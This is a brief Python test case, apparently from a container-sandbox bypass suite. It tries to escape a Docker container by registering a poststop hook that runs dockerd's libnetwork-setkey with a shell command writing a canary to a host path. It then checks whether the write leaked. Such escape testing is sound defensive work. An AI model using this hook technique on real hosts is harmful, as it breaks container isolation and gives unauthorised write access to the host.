"""Docker's own hook at a stage where Docker has none: after the container's end."""

from bypass import refused

SOURCE = "idea"
WAY = "create"
STOPPED = refused("hook")


def attack(t):
    t.allow_network()
    t.hook("poststop", t.dockerd(), "libnetwork-setkey", "-c", "read line; echo %s > /mnt/host/written" % t.canary)
    t.run("true")
    return t.leaked(t.read("/mnt/host/written"))
